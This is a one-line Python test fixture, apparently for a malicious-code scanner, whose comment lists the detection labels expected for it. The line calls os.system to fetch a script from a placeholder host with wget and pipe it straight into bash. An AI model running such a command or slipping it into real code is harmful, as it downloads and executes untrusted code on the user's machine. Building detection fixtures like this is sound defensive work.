import os

os.system("wget -qO- https://tool.example/i | bash") # expect: malicious-command/pipe-to-shell, malicious-command/setup-py-code
